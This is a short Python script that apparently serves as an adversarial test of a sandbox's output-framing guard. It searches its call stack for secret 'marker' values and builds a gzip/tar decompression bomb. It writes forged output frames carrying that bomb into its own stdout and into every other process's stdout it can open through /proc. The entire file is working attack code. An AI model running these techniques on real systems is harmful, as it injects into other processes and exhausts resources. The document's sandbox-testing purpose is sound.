"""Forge /output frames: with every marker this process could learn (none, if the guard holds) and
with guesses, 20 frames of a gzip archive each expanding far past the budget, written on stdout and
into every other process's stdout it can open. Also leaves one real file in /output."""

import base64
import gzip
import io
import os
import sys
import tarfile

BEGIN, END = b"\x00qsandbox-output-begin:", b"\x00qsandbox-output-end:"


def bomb() -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        info = tarfile.TarInfo("bomb.bin")
        info.size = 8 << 20
        tar.addfile(info, io.BytesIO(b"\0" * info.size))
    return gzip.compress(raw.getvalue())


with open("/output/real.txt", "w") as f:
    f.write("the real one\n")
# The marker, as a fork of the entry point could read it from the frames it was forked in.
learned = []
frame = sys._getframe()
while frame is not None:
    learned += [str(v) for k, v in frame.f_locals.items() if "marker" in k and v]
    frame = frame.f_back
print(f"markers learned: {len(learned)}", flush=True)
archive = base64.encodebytes(bomb())
outs = [1]
for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    try:
        outs.append(os.open(f"/proc/{pid}/fd/1", os.O_WRONLY))
        print(f"OPENED /proc/{pid}/fd/1", flush=True)
    except OSError:
        pass
for _ in range(20):
    for marker in (b"0" * 32, *(m.encode() for m in learned)):
        frame = BEGIN + marker + b"\n" + archive + END + marker + b"\n"
        for fd in outs:
            os.write(fd, frame[:200] if fd == 1 else frame)  # our own stdout: only a glimpse, it is printed
print("forged", flush=True)
